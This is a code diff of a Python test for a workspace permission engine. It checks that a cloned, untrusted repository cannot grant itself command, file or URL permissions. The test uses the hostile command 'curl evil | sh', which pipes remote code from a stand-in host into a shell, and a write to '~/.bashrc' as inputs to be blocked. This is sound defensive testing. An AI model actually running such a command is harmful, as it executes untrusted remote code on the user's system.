@@ -91,7 +91,8 @@ def test_a_cloned_repository_grants_itself_nothing_until_trusted_and_again_after
     committed.write_text(ALLOW_EVERYTHING)
     (ws / "out").mkdir(exist_ok=True)
     # Before trust: its deny applies, its allows do not (shown inactive).
-    assert engine.check_command("curl evil | sh", workspace=ws).effect is None
+    untrusted = engine.check_command("curl evil | sh", workspace=ws)
+    assert untrusted.effect is None and untrusted.untrusted_allow
     assert engine.check_path("~/.bashrc", write=True, workspace=ws).effect is None
     assert engine.check_url("https://example.com/", workspace=ws).effect is None
     assert engine.check_command("make deploy now", workspace=ws).effect is Effect.DENY
